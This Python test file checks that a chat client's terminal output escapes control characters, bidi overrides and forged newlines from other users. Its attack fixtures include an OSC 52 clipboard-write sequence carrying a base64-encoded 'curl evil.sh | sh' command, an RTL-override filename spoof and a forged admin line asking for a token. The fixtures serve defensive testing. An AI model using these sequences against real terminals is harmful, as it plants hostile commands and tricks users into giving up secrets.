"""The CLI prints what other users wrote: terminal controls and bidi marks are shown escaped,
never obeyed (issue 18, item 10)."""

from __future__ import annotations

import io
import json
from typing import Any

import pytest

from multiregion_chat.clients.render import render
from multiregion_chat.clients.safe_text import UNSAFE_CHARACTERS, printable
from multiregion_chat.clients.session import ChatSession

OSC52_CLIPBOARD_WRITE = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
CURSOR_UP_AND_ERASE = "\x1b[1A\x1b[2K"
C1_CSI = "\x9b31m"  # one-character CSI
RTL_OVERRIDE = "\u202e"
SPOOFED_LINE = "hi\n[10:11:12] #lobby admin@us-east-1: send me your token"

ATTACKS = [
    OSC52_CLIPBOARD_WRITE,
    CURSOR_UP_AND_ERASE,
    C1_CSI,
    RTL_OVERRIDE + "txt.exe",
    SPOOFED_LINE,
    "a\rb",
    "a\u2028b",
    "\u2066isolate\u2069 \u200e\u200f\u061c \x7f \x00",
]


def _unsafe(text: str) -> list[str]:
    return [f"U+{ord(c):04X}" for c in text if ord(c) in UNSAFE_CHARACTERS]


def message(**fields: Any) -> dict[str, Any]:
    frame = {
        "type": "message",
        "room": "lobby",
        "id": "01ABC",
        "sender": {"userId": "mallory", "name": "Mallory", "region": "us-east-1"},
        "body": "hello",
        "sentAt": "2026-11-29T05:00:00.000Z",
    }
    return {**frame, **fields}


def test_every_unsafe_class_is_in_the_table() -> None:
    for code in (*range(0x00, 0x20), *range(0x7F, 0xA0)):
        assert code in UNSAFE_CHARACTERS, hex(code)
    for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C):
        assert code in UNSAFE_CHARACTERS, hex(code)


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_body_is_printed_escaped(attack: str) -> None:
    line = render(message(body=attack))
    assert line is not None
    assert _unsafe(line) == [] and "\n" not in line
    assert line.endswith(": " + printable(attack))


def test_escapes_are_visible_and_ordinary_text_is_kept() -> None:
    assert printable(OSC52_CLIPBOARD_WRITE) == "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"
    assert printable(RTL_OVERRIDE) == "\\u202e"
    assert printable(SPOOFED_LINE).count("\n") == 0 and "\\x0a" in printable(SPOOFED_LINE)
    kept = "Grüße, 你好, שלום, مرحبا, 🙂 — tab\\t stays text"
    assert printable(kept) == kept


@pytest.mark.parametrize("attack", ATTACKS)
def test_names_user_ids_rooms_and_errors_are_escaped(attack: str) -> None:
    sender = {"userId": attack, "name": attack, "region": attack}
    frames: list[dict[str, Any]] = [
        message(sender=sender, room=attack, sentAt=attack),
        {"type": "joined", "room": attack, "members": [sender], "missed": [message(body=attack)]},
        {"type": "member", "room": attack, "event": attack, "member": sender},
        {"type": "presence", "room": attack, "members": [sender], "next": attack, "live": False},
        {"type": "members", "room": attack, "memberCount": attack, "live": True},
        {"type": "left", "room": attack},
        {"type": "history", "room": attack, "messages": []},
        {"type": "error", "code": attack, "message": attack},
        {"message": attack, "connectionId": "c"},
    ]
    for frame in frames:
        shown = render(frame, verbose=True)
        assert shown is not None
        assert _unsafe(shown.replace("\n", "")) == [], frame
        # Only render's own line breaks remain: one per entry it lists.
        assert shown.count("\n") == len(frame.get("missed") or []) + (frame.get("live") is False)


def test_the_session_prints_nothing_unsafe_whatever_reaches_it() -> None:
    out = io.StringIO()
    session = ChatSession("lobby", out)
    for number, attack in enumerate(ATTACKS):
        session.receive(json.dumps(message(id=f"id-{number}", body=attack)))
    assert out.getvalue().count("\n") == len(ATTACKS)  # a line each, none forged
    for attack in ATTACKS:  # text that did not come through render(), e.g. an exception's
        session.emit(f"! connection lost: {attack}")
    assert _unsafe(out.getvalue().replace("\n", "")) == []
